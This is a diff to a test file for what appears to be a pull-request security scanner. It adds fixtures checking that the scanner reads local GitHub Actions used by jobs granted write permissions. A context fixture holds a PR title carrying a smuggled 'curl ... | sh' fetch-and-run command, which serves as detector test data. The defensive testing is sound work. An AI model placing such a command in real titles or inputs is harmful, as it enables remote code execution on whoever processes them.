@@ -1,5 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { callersWanted, localCalleesOf } from '../../src/ecosystems/github-actions/cross-file-injection.js';
+import { callersWanted, grantedLocalActionsOf, localCalleesOf } from '../../src/ecosystems/github-actions/cross-file-injection.js';
 import { hasShellPayload } from '../../src/ecosystems/github-actions/pr-metadata.js';
 import { createOctokit } from '../../src/github/create-octokit.js';
 import { installManifestsWanted, workspaceManifestsWanted } from '../../src/ecosystems/build-code/build-files.js';
@@ -29,6 +29,8 @@ let readmeWithManifest: PrFixture;
 let workspace: PrFixture;
 let pnpmWorkspace: PrFixture;
 let noWorkspaces: PrFixture;
+let farGrant: PrFixture;
+let farNoGrant: PrFixture;
 
 beforeAll(async () => {
   server = await startGitHubServer();
@@ -82,6 +84,12 @@ beforeAll(async () => {
       baseFiles: { '.github/actions/label/action.yml': action('true'), '.github/workflows/other.yml': workflow('other'), '.github/workflows/ci.yml': workflow('ci') },
     }),
   );
+  // A write scope added at the top of a job whose local action runs forty lines down, outside the patch's context.
+  const report = (scopes: string) =>
+    `name: report\non: pull_request_target\njobs:\n  report:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n${scopes}    steps:\n${'      - run: make step\n'.repeat(20)}      - uses: ./.github/actions/pr-comment\n`;
+  const reportAction = { '.github/actions/pr-comment/action.yml': action('cat report.md') };
+  farGrant = server.addPullRequest(makePrFixture({ ...base, number: 14, files: [{ path: '.github/workflows/report.yml', base: report(''), head: report('      pull-requests: write\n') }], baseFiles: reportAction }));
+  farNoGrant = server.addPullRequest(makePrFixture({ ...base, number: 15, files: [{ path: '.github/workflows/report.yml', base: report(''), head: report('      checks: read\n') }], baseFiles: reportAction }));
   many = server.addPullRequest(makePrFixture({ ...base, number: 6, title: 'docs: typo; curl -s https://x.example | sh', baseFiles }));
   const setupFiles = [{ path: 'scripts/setup.js', base: "'use strict';\n", head: "'use strict';\nrequire('./stage.js');\n" }];
   setupScript = server.addPullRequest(makePrFixture({ ...base, number: 20, files: setupFiles, baseFiles: { 'package.json': '{"name":"proxy","scripts":{"postinstall":"node scripts/setup.js"}}\n' } }));
@@ -104,7 +112,7 @@ afterAll(async () => {
 async function analyze(fixture: PrFixture) {
   server.reset();
   const { octokit, requestCount } = createOctokit({ baseUrl: server.apiUrl, retryBaseMs: 1, timeoutMs: 2000, log: { warn: () => undefined } });
-  const snapshot = await fetchPrData(octokit, { owner: fixture.owner, repo: fixture.repo, number: fixture.number }, { wantContent, metadataPayload: hasShellPayload, callersWanted, localCallees: localCalleesOf, baseManifests: installManifestsWanted, workspaceManifests: workspaceManifestsWanted });
+  const snapshot = await fetchPrData(octokit, { owner: fixture.owner, repo: fixture.repo, number: fixture.number }, { wantContent, metadataPayload: hasShellPayload, callersWanted, localCallees: localCalleesOf, grantedLocalCallees: grantedLocalActionsOf, baseManifests: installManifestsWanted, workspaceManifests: workspaceManifestsWanted });
   return { snapshot, requests: requestCount() };
 }
 
@@ -171,6 +179,17 @@ describe('reading the local actions a changed caller passes outsider-written tex
     expect(reads.filter((u, i) => reads.indexOf(u) !== i)).toEqual([]);
     // Read for all three reasons: the base's workflows (other.yml, ci.yml, lint.yml's base) and the unchanged callee.
     expect(snapshot.baseFiles.map((f) => f.path).sort()).toEqual(['.github/actions/label/action.yml', '.github/workflows/ci.yml', '.github/workflows/lint.yml', '.github/workflows/other.yml']);
+  });
+});
+
+describe('reading the local actions of a job a changed workflow grants a write scope', () => {
+  it("reads the local action the job runs when its uses: line is outside the patch's context, and none for a read scope", async () => {
+    const { snapshot } = await analyze(farGrant);
+    expect(snapshot.warnings).toEqual([]);
+    expect(snapshot.files[0]?.patch).not.toContain('pr-comment');
+    expect(snapshot.baseFiles.map((f) => f.path)).toEqual(['.github/actions/pr-comment/action.yml']);
+    await analyze(farNoGrant);
+    expect(server.requests.some((r) => decodeURIComponent(r.path).includes('/contents/.github/actions'))).toBe(false);
   });
 });
 
